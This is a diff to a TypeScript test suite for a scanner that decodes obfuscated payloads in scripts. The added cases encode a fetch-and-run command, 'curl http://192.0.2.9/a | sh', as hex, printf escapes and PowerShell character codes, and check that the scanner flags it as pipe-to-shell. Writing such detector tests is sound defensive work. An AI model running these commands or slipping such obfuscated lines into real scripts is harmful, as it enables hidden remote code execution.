@@ -6,6 +6,8 @@ const decode = (text: string) => decodeUserData(new TextEncoder().encode(text));
 const base64 = (text: string | Uint8Array, encoding: BufferEncoding = 'utf8') =>
   Buffer.from(text as string, encoding).toString('base64');
 
+const CHARACTERS = Array.from('curl http://192.0.2.9/a | sh');
+
 describe('text that a payload carries encoded', () => {
   it('is decoded in place, with the line it stands on', () => {
     const { hidden, indicators } = decode(
@@ -46,6 +48,31 @@ describe('text that a payload carries encoded', () => {
     ]);
     expect(indicators).toContainEqual(
       expect.objectContaining({ kind: 'reverse-shell', inside: ['base64', 'gzip', 'base64'] }),
+    );
+  });
+
+  it.each<[string, string, string]>([
+    ['hex', 'hex', `echo ${Buffer.from('curl http://192.0.2.9/a | sh').toString('hex')} | xxd -r -p | sh`],
+    [
+      'printf’s escapes',
+      'escapes',
+      `printf '${CHARACTERS.map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('')}' | sh`,
+    ],
+    [
+      'character codes of PowerShell',
+      'character codes',
+      `iex ([string]::join('', (${CHARACTERS.map((char) => char.charCodeAt(0)).join(', ')} | % { [char]$_ })))`,
+    ],
+    [
+      'a sum of characters',
+      'character codes',
+      `iex (${CHARACTERS.map((char) => `[char]${char.charCodeAt(0)}`).join('+')})`,
+    ],
+  ])('is read where it is written as %s', (_, layer, line) => {
+    const { hidden, indicators } = decode(`#!/bin/sh\n${line}\n`);
+    expect(hidden).toMatchObject([{ line: 2, layers: [layer], text: 'curl http://192.0.2.9/a | sh' }]);
+    expect(indicators).toContainEqual(
+      expect.objectContaining({ kind: 'pipe-to-shell', line: 2, inside: [layer] }),
     );
   });
 
